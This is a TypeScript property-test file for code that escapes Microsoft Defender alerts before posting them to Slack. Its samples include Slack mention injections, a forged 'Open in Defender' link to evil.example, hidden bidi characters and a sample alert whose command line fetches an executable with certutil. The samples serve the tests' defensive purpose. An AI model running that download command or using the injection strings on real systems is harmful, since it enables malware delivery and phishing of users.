import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { portalPages, tagLink } from '../../src/destinations/alert-view/links.ts';
import { messageView } from '../../src/destinations/alert-view/message.ts';
import { messageOfOne } from '../../src/destinations/alert-view/single.ts';
import { visible } from '../../src/destinations/alert-view/visible.ts';
import { groupMessage } from '../../src/destinations/slack/encode.ts';
import {
  code,
  codeBlock,
  escapeEntities,
  link,
  plain,
  slackDate,
  words,
} from '../../src/destinations/slack/escape.ts';
import type { Envelope } from '../../src/shared/event.ts';
import { alert, envelope } from './samples.ts';

const alertMessage = (made: Envelope) => groupMessage(messageView(messageOfOne(made)));

/** Text as an attacker would write it: Slack's control characters, mentions, and what hides. */
const hostile = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .array(
      fc.constantFrom(
        '<!channel>',
        '<!here|x>',
        '<@U123>',
        '<https://evil.example|Open in Defender>',
        '@channel',
        '@Everyone',
        '`',
        '```',
        '\n',
        '\r\n',
        '*',
        '_',
        '~',
        '&',
        '&amp;',
        '\u202e',
        '\u200b',
        '\u2066',
        '\ufeff',
        '\u{e0041}',
        '\ud800',
        '😀',
        'a ',
      ),
      { maxLength: 60 },
    )
    .map((parts) => parts.join('')),
);
const limit = fc.integer({ min: 20, max: 200 });
const HIDDEN = /[\p{Cf}\p{Zl}\p{Zp}]|[^\P{Cc}\n]/u;

describe('text for Slack', () => {
  for (const [name, make] of [
    ['plain', plain],
    ['words', words],
    ['code', code],
    ['codeBlock', codeBlock],
  ] as const) {
    it(`${name}: no control character of Slack's gets through, nothing hidden, within its limit`, () => {
      fc.assert(
        fc.property(hostile, limit, (text, most) => {
          const made = make(text, most);
          expect(made.length).toBeLessThanOrEqual(Math.max(most, '_empty_'.length));
          expect(made).not.toMatch(/[<>]/);
          expect(made.replace(/&(?:amp|lt|gt);/g, '')).not.toContain('&');
          expect(made).not.toMatch(HIDDEN);
          expect(made.isWellFormed()).toBe(true);
        }),
        { numRuns: 300 },
      );
    });
  }

  it('plain and words break the mentions of everybody', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(plain(text, 5_000)).not.toMatch(/@(?:channel|here|everyone)/i);
        expect(words(text, 5_000)).not.toMatch(/@(?:channel|here|everyone)|[*_~`]/i);
      }),
    );
  });

  it('code can be neither left nor broken', () => {
    fc.assert(
      fc.property(hostile, limit, (text, most) => {
        const inline = code(text, most);
        if (inline !== '_empty_') expect(inline).toMatch(/^`[^`\n]+`$/);
        const block = codeBlock(text, most);
        if (block !== '_empty_') expect(block).toMatch(/^```\n[^`]+\n```$/);
      }),
    );
  });

  it('cuts neither an entity nor a pair of surrogates', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('&', '<', '>', 'a', '😀')),
        fc.integer({ min: 1, max: 30 }),
        (parts, most) => {
          const text = parts.join('');
          const made = escapeEntities(text, most);
          expect(made.length).toBeLessThanOrEqual(most);
          const back = made.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&');
          if (back.endsWith('…')) expect(text.startsWith(back.slice(0, -1))).toBe(true);
          else expect(back).toBe(text);
        },
      ),
    );
  });

  it('shows what was hidden', () => {
    expect(visible('a\u202eexe.txt\u200b')).toBe('a\\u{202e}exe.txt\\u{200b}');
    expect(visible('one\r\ntwo\tthree', true)).toBe('one\ntwo three');
    expect(visible('⚠️')).toBe('⚠️');
  });

  it('a link’s label can’t forge another', () => {
    expect(link('https://a.example/x', 'b|c><https://evil.example')).toBe(
      '<https://a.example/x|b∣c&gt;&lt;https://evil.example>',
    );
  });
});

describe('an alert’s message', () => {
  it('is what an analyst needs', () => {
    const message = alertMessage(
      alert(1, {
        event: {
          ...envelope(1).event,
          AlertId: 'da637551227677560813_-961444813',
          AccountObjectId: '0a1b2c3d-0000-4000-8000-0123456789ab',
        },
      }),
    );
    expect(message.text).toBe('🟠 HIGH Download with certutil on ws-042.contoso.example');
    const text = JSON.stringify(message.blocks);
    const tenant = envelope(1).tenant;
    for (const part of [
      '🟠 HIGH  Download with certutil',
      '*Host*  `ws-042.contoso.example`',
      '*User*  `alice@contoso.example`',
      '<!date^1795417262^{date_short_pretty} {time_secs}|2026-11-23 07:01:02 UTC>',
      'FileName `certutil.exe`',
      'certutil.exe -urlcache -f http://203.0.113.9/a.exe',
      'certutil fetches a file',
      'Certificate roll-outs',
      `<https://security.microsoft.com/machines/v2/d3adb33fd3adb33fd3adb33fd3adb33fd3adb33f?tid=${tenant}|Device>`,
      `<https://security.microsoft.com/alerts/da637551227677560813_-961444813?tid=${tenant}|Alert>`,
      `<https://security.microsoft.com/user?aad=0a1b2c3d-0000-4000-8000-0123456789ab&amp;tid=${tenant}|User>`,
      '<https://attack.mitre.org/techniques/T1105/|T1105 Ingress Tool Transfer>',
    ]) {
      expect(text).toContain(part);
    }
  });

  it('is short for an event without a rule', () => {
    const message = alertMessage(
      envelope(1, { event: { ActionType: 'PnpDeviceConnected', DeviceName: 'ws-1' } }),
    );
    expect(message.text).toBe('PnpDeviceConnected on ws-1');
    expect(message.blocks.map((block) => block.type)).toEqual(['header', 'section', 'context']);
    const info = envelope(1, { table: 'AlertInfo', event: { Title: 'Ransomware', AlertId: 'a1' } });
    expect(alertMessage(info).text).toBe('Ransomware');
  });

  it('gives no link for ids of an unexpected form', () => {
    const event = { DeviceId: '../x?y=z', AlertId: 'a|b>', AccountObjectId: 'a b', SHA256: 'zz' };
    expect(portalPages(messageOfOne(envelope(1, { event })))).toEqual([]);
    expect(portalPages(messageOfOne(envelope(1, { tenant: 'a&b', event: { DeviceId: 'd1' } })))).toEqual([
      { label: 'Device', url: 'https://security.microsoft.com/machines/v2/d1' },
    ]);
  });

  it.each([
    ['attack.t1059.001', '<https://attack.mitre.org/techniques/T1059/001/|T1059.001>'],
    ['attack.T1105', '<https://attack.mitre.org/techniques/T1105/|T1105>'],
    ['attack.defense-evasion', '<https://attack.mitre.org/tactics/TA0005/|defense evasion>'],
    ['attack.command_and_control', '<https://attack.mitre.org/tactics/TA0011/|command and control>'],
    ['attack.g0032', '<https://attack.mitre.org/groups/G0032/|G0032>'],
    ['attack.s0002', '<https://attack.mitre.org/software/S0002/|S0002>'],
    ['cve.2021-44228', '<https://nvd.nist.gov/vuln/detail/CVE-2021-44228|CVE-2021-44228>'],
    ['detection.emerging-threats', '`detection.emerging-threats`'],
    ['attack.constructor', '`attack.constructor`'],
  ])('shows the tag %s', (tag, shown) => {
    const { label, url } = tagLink(tag);
    expect(url === undefined ? code(label, 60) : link(url, label)).toBe(shown);
  });

  it('shows a time that can’t be read as it stands', () => {
    expect(slackDate('<soon>')).toBe('`&lt;soon&gt;`');
  });
});
